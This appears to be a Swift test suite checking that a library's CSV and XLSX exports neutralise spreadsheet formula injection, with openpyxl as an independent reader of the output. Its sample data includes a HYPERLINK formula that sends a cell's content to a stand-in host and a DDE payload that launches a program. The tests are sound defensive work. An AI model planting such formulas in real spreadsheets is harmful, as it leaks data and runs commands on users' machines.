import Foundation
import PhareTestSupport
import Testing

@testable import PhareRender

/// Exports neutralise spreadsheet formula injection (OWASP "CSV Injection"): a text starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote; numbers stay numbers.
@Suite struct FormulaInjectionTests {
    static let hostile = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
        "\t=1+1", "\r=1+1",
    ]

    @Test func textsThatCouldRunGetAQuote() {
        for text in Self.hostile { #expect(SpreadsheetText.neutralised(text) == "'" + text) }
        for text in ["Grand Est", "44", "2A", "", "'déjà cité", "a=b", "é=1", "—"] {
            #expect(SpreadsheetText.neutralised(text) == text)
        }
        // A text that is a plain decimal number cannot run: it is kept as written.
        for text in ["-12", "+1.5", "-0.25e-3", "-7E2"] { #expect(SpreadsheetText.neutralised(text) == text) }
        for text in ["-", "+", "-1-1", "-1.", "-.5", "-1e", "--1"] {
            #expect(SpreadsheetText.neutralised(text) == "'" + text)
        }
    }

    @Test func csvQuotesHostileTextsAndKeepsNegativeNumbers() {
        let table = DataTable(
            columns: ["=name", "value"],
            rows: [
                [.text("=1+1"), .number(-1.5)], [.text("@cmd"), .integer(-3)], [.text("-2+3"), .text("-4")],
                [.text("\t=x"), .null], [.text("\r=y"), .bool(false)],
            ])
        #expect(
            table.render(.csv)
                == "'=name,value\n'=1+1,-1.5\n'@cmd,-3\n'-2+3,-4\n'\t=x,\n\"'\r=y\",false\n")
    }

    /// openpyxl (an independent reader) reads every hostile text back as a string starting with a
    /// quote, never as a formula; numbers, negative ones included, come back as numbers.
    @Test func xlsxHoldsHostileTextsAsQuotedStrings() throws {
        let rows: [[Cell]] = Self.hostile.map { [.text($0), .number(-2.5), .integer(-7)] }
        let data = try XLSXWriter.workbook(
            DataTable(columns: ["text", "number", "integer"], rows: rows), sheetName: "t")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("phare-inject-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let file = folder.appendingPathComponent("t.xlsx")
        try data.write(to: file)
        let script = """
            import json, sys, openpyxl
            ws = openpyxl.load_workbook(sys.argv[1]).active
            print(json.dumps([[[c.data_type, c.value] for c in row] for row in ws.iter_rows(min_row=2)]))
            """
        let run = try ProcessOutput.run("python3", ["-c", script, file.path])
        #expect(run.status == 0, "python3 with openpyxl (scripts/install-dependencies): \(run.stderr)")
        let read = try #require(try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [[[Any]]])
        #expect(read.count == Self.hostile.count)
        for (row, text) in zip(read, Self.hostile) {
            #expect(row[0][0] as? String == "s")
            // XML reads a carriage return as a line feed (XML 1.0, 2.11): the quote is what matters.
            #expect(row[0][1] as? String == "'" + text.replacingOccurrences(of: "\r", with: "\n"))
            #expect(row[1][0] as? String == "n")
            #expect((row[1][1] as? NSNumber)?.doubleValue == -2.5)
            #expect(row[2][0] as? String == "n")
            #expect((row[2][1] as? NSNumber)?.intValue == -7)
        }
    }
}
